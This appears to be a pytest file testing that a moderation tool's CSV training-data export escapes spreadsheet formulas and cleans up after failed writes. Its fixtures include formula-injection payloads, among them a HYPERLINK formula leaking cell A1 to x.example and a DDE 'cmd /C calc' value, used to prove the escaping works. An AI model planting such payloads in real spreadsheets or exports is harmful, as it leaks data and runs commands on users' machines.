"""The decisions export (`text,label` training data) is safe to open in a spreadsheet, reads back
unchanged, and leaves nothing behind when it fails."""

from __future__ import annotations

import csv
import os

import pytest

from client.store import Store, StoreError
from models.classifier import Verdict
from models.excerpts import Excerpt
from models.taxonomy import DEFAULT_CATEGORIES

TEXTS = (
    '=HYPERLINK("http://x.example/?"&A1,"click me")',
    "+1 nice flank",
    "-_- noob",
    "@SUM(1+1) ez",
    "\tcmd /c calc",
    "'sup team",
    "plain words",
)


def decided_store(tmp_path) -> Store:
    store = Store(tmp_path / "m.sqlite3")
    session = store.create_session("text", "chat")
    excerpts = [Excerpt(t, 0, len(t)) for t in TEXTS]
    verdicts = [Verdict("insult", True, 0.9, {"non_toxic": 0.1, "insult": 0.9})] * len(TEXTS)
    for stored in store.add_excerpts(session.id, excerpts, verdicts):
        store.decide(stored.id, "confirm", note="=cmd|' /C calc'!A0", moderator="+evil")
    return store


def test_csv_cells_cannot_run_as_formulas_and_read_back_unchanged(tmp_path):
    from training.data import Source, load_source

    store = decided_store(tmp_path)
    assert store.export_training(tmp_path / "d.csv") == len(TEXTS)
    with open(tmp_path / "d.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r")), row["text"]
    assert rows[0]["text"] == """'=HYPERLINK("http://x.example/?"&A1,"click me")"""
    assert rows[5]["text"] == "''sup team" and rows[6]["text"] == "plain words"
    examples = load_source(
        Source("decisions", "labeled", tmp_path / "d.csv", {}), DEFAULT_CATEGORIES
    )
    # the loader strips surrounding whitespace itself; everything else comes back as it was
    assert sorted(e.text for e in examples) == sorted(t.strip() for t in TEXTS)
    assert {e.label for e in examples} == {"insult"}


def test_a_failed_export_leaves_no_temporary_file_and_says_why(tmp_path, monkeypatch):
    store = decided_store(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "d.csv").write_text("text,label\nearlier,insult\n")

    def refuse(source, target):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(StoreError, match="No space left on device"):
        store.export_training(out / "d.csv")
    assert [p.name for p in out.iterdir()] == ["d.csv"]
    assert (out / "d.csv").read_text() == "text,label\nearlier,insult\n"
    monkeypatch.undo()
    with pytest.raises(StoreError, match="cannot be written"):
        store.export_training(tmp_path / "missing-folder" / "d.jsonl")
